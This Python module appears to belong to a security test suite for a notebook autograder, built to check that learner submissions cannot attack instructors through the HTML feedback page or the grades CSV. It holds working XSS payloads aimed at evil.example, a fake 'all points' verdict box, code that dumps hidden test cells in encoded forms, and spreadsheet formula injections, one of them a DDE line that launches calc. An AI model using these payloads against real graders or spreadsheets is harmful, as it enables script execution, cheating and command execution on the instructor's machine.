"""Class 7: feedback pages and exports. A learner's outputs and markdown land in the HTML feedback page an
instructor opens and sends back; a learner's text lands in the grades CSV an instructor opens in a spreadsheet.
Each payload tries to put active content, remote resources, a fake verdict, hidden test code or a formula there."""

from __future__ import annotations

import base64
import binascii
import codecs
import csv
import html
import io
import re
from html.parser import HTMLParser

from .catalogue import Attack, Check, code

K = "feedback and exports"
MARK = "DLCXSS"

HTML_PAYLOAD = f'''
<script>alert('{MARK}')</script>
<img src="https://evil.example/{MARK}.png" onerror="alert('{MARK}')">
<iframe src="https://evil.example/{MARK}"></iframe>
<a href="javascript:alert('{MARK}')">click {MARK}</a>
<svg onload="alert('{MARK}')"><script>alert('{MARK}')</script></svg>
<style>body {{ background: url(https://evil.example/{MARK}.css) }}</style>
<div style="background:url(https://evil.example/{MARK}-style.png)">styled {MARK}</div>
<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}">
<form action="https://evil.example/{MARK}"><input name="password"></form>
<object data="https://evil.example/{MARK}.swf"></object><embed src="https://evil.example/{MARK}.swf">
<base href="https://evil.example/{MARK}/"><link rel="stylesheet" href="https://evil.example/{MARK}.css">
<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')>
<div class="dlc-verdict dlc-pass" id="dlc-summary">&#10003; all 9 points {MARK}</div>
'''

OUTPUTS = code(f'''
    from IPython.display import HTML, Javascript, Markdown, SVG, display

    display(HTML({HTML_PAYLOAD!r}))
    display(Markdown("[x](javascript:alert('{MARK}')) <img src=x onerror=alert('{MARK}')> <script>alert('{MARK}')</script>"))
    display(Javascript("alert('{MARK}')"))
    display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{MARK}")</script>'
                '<image href="https://evil.example/{MARK}.png"/></svg>'))
    display({{"text/html": "<img src=x onerror=alert('{MARK}')>", "application/javascript": "alert('{MARK}')",
              "text/plain": "plain"}}, raw=True)
    print("<script>alert('{MARK}')</script>")

    def predict(X, w, b):
        return X @ w + b
''')

MARKDOWN = (f"My answer. <script>alert('{MARK}')</script> <img src=x onerror=\"alert('{MARK}')\"> "
            f"[link](javascript:alert('{MARK}')) <iframe src=\"https://evil.example/{MARK}\"></iframe> "
            f"$\\href{{javascript:alert('{MARK}')}}{{x}}$ <a href=\"https://evil.example/{MARK}\">resubmit here</a>\n")

ERROR_CELL = code(f'''
    def mse(y_pred, y):
        return float(np.mean((y_pred - y) ** 2))

    raise RuntimeError("<script>alert('{MARK}')</script><img src=x onerror=alert('{MARK}')>")
''')

GRADED_ERROR = code(f'''
    def normal_equations(X, y):
        raise ValueError("<script>alert('{MARK}')</script><img src=x onerror=alert('{MARK}')>")
''')

class _Elements(HTMLParser):
    """Every element of a page: (tag, attributes, the text directly inside script/style)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str], str]] = []
        self._raw: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k.lower(): v or "" for k, v in attrs}, ""))
        self._raw = [] if tag in ("script", "style") else None

    def handle_data(self, data: str) -> None:
        if self._raw is not None:
            self._raw.append(data)
        elif self.found:
            tag, attrs, text = self.found[-1]
            self.found[-1] = (tag, attrs, text + data)

    def handle_endtag(self, tag: str) -> None:
        if self._raw is not None and self.found and self.found[-1][0] == tag:
            self.found[-1] = (tag, self.found[-1][1], "".join(self._raw))
        self._raw = None


URL_ATTRS = ("src", "href", "action", "formaction", "data", "poster", "background", "srcset", "xlink:href")


def active_content(page: str) -> list[str]:
    """What in a rendered page could run, load or pose as the grader because of the learner (the marker)."""
    parser = _Elements()
    parser.feed(page)
    bad = []
    for tag, attrs, text in parser.found:
        joined = " ".join(attrs.values())
        if tag == "script" and (MARK in text or "evil.example" in attrs.get("src", "")):
            bad.append("a script of the learner's")
        if tag == "style" and (MARK in text or "evil.example" in text):
            bad.append("a style sheet of the learner's")
        if tag in ("iframe", "object", "embed", "form", "base", "link", "meta") and (
                MARK in joined or "evil.example" in joined):
            bad.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") and MARK in value:
                bad.append(f"event handler {name}")
            if name in URL_ATTRS and value.strip().lower().startswith("javascript:"):
                bad.append(f"javascript: in {name}")
            if name in URL_ATTRS and name != "href" and "evil.example" in value:
                bad.append(f"remote resource in {tag} {name}")
            if name == "style" and (MARK in value or "url(" in value):
                bad.append("inline style")
        if any(c.startswith("dlc-") for c in (attrs.get("class", "") + " " + attrs.get("id", "")).split()) \
                and MARK in text:
            bad.append("a fake verdict (the grader's own classes)")
    return sorted(set(bad))


def _page_inert(run, attack) -> tuple[bool, str]:
    page = run.feedback_page(attack.student)
    if page is None:
        return False, "no feedback page was written"
    found = active_content(page)
    if found:
        return False, "feedback page holds: " + ", ".join(found)
    return True, f"feedback page inert ({page.count(MARK)} inert mention(s) of the marker)"


HIDDEN_PAYLOAD = code('''
    import base64, codecs, glob, json

    _hidden = []
    for _path in glob.glob("*.ipynb") + glob.glob("/tmp/work/*.ipynb"):
        for _cell in json.load(open(_path))["cells"]:
            _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
            if "HIDDEN TESTS" in _src:
                _hidden.append(_src)
    _text = "\\n".join(_hidden)
    print("PLAIN:")
    print(_text)
    print("B64:" + base64.b64encode(_text.encode()).decode())
    print("REV:" + _text[::-1].replace("\\n", "|"))
    print("ROT:" + codecs.encode(_text, "rot13").replace("\\n", "|"))
    print("SPACED:" + " ".join(_text.replace("\\n", "|")))
    print("HISTORY:", "|".join(In), "|".join(str(x) for x in _ih))

    def predict(X, w, b):
        return X @ w + b
''')


def _decoded_views(page: str) -> dict[str, str]:
    """What a learner reading the page can recover from each labelled line."""
    text = html.unescape(re.sub(r"<[^>]+>", "", page))
    views = {"plain": text}
    for label, decode in (("B64", lambda s: base64.b64decode(s + "===").decode("utf-8", "replace")),
                          ("REV", lambda s: s[::-1].replace("|", "\n")),
                          ("ROT", lambda s: codecs.decode(s, "rot13").replace("|", "\n")),
                          ("SPACED", lambda s: s[::2].replace("|", "\n"))):
        for match in re.finditer(label + r":(\S[^\n]*)", text):
            try:
                views[label] = views.get(label, "") + decode(match.group(1).strip())
            except (ValueError, binascii.Error):  # not that encoding after all
                continue
    return views


def _no_hidden_code(run, attack) -> tuple[bool, str]:
    page = run.feedback_page(attack.student)
    if page is None:
        return False, "no feedback page was written"
    secret = run.hidden_lines()
    leaked = sorted({label for label, view in _decoded_views(page).items()
                     if any(line in view for line in secret) or "BEGIN HIDDEN TESTS" in view})
    csv_text = run.export_text()
    if any(line in csv_text for line in secret):
        leaked.append("grades.csv")
    if leaked:
        return False, "hidden test code readable in the feedback page as: " + ", ".join(leaked)
    return True, "no hidden test code in the learner's page or the CSV"


FORMULA = code('''
    def predict(X, w, b):
        raise ValueError('=HYPERLINK("https://evil.example/DLCXSS","full marks: click")')
''')
FORMULA_OTHERS = {
    "mse": code('''
        def mse(y_pred, y):
            return "=1+1"
    '''),
    "mse-gradients": code('''
        def mse_gradients(X, y, w, b):
            raise RuntimeError("@SUM(1+1)*cmd|' /C calc'!A0")
    '''),
    "normal-equations": code('''
        def normal_equations(X, y):
            raise RuntimeError("\\t=1+1\\r-2+3")
    '''),
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_safe(run, attack) -> tuple[bool, str]:
    bad = []
    for name, text in run.export_files().items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                if cell.startswith(FORMULA_START) and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                    bad.append(f"{name}: {cell[:40]!r}")
    mine = [row for row in csv.reader(io.StringIO(run.export_text())) if attack.student in row]
    if not mine:
        return False, "the attack's rows are missing from the export"
    if bad:
        return False, "formula-leading cells: " + "; ".join(bad[:3])
    return True, "no cell of either CSV starts a formula"


ATTACKS = [
    Attack("html-in-output", K, "outputs script, event handlers, iframes, remote images and CSS, forms, "
           "meta refresh, javascript: links, SVG with script, a fake verdict box, and an error whose message "
           "is HTML (at cell time, and in a graded call, so in the diagnosis too); the written answer (markdown) holds "
           "the same",
           {"predict": OUTPUTS, "mse": ERROR_CELL, "explain": MARKDOWN, "normal-equations": GRADED_ERROR}, (),
           check=Check("feedback page inert", _page_inert)),
    Attack("print-hidden-tests", K, "prints the hidden tests from the notebook copy in its kernel's folder "
           "(plain, base64, reversed, rot13, spaced) and IPython's input history",
           {"predict": HIDDEN_PAYLOAD}, (), check=Check("no hidden test code", _no_hidden_code)),
    Attack("formula-in-diagnosis", K, "makes its failures' messages start with spreadsheet formulas "
           "(=HYPERLINK, @SUM, a tab, +/-) so they reach the grades CSV's diagnosis column",
           {"predict": FORMULA, **FORMULA_OTHERS}, ("test-predict", "test-mse", "test-mse-gradients",
                                                    "test-normal-equations"),
           check=Check("CSV cells escaped", _csv_safe)),
]
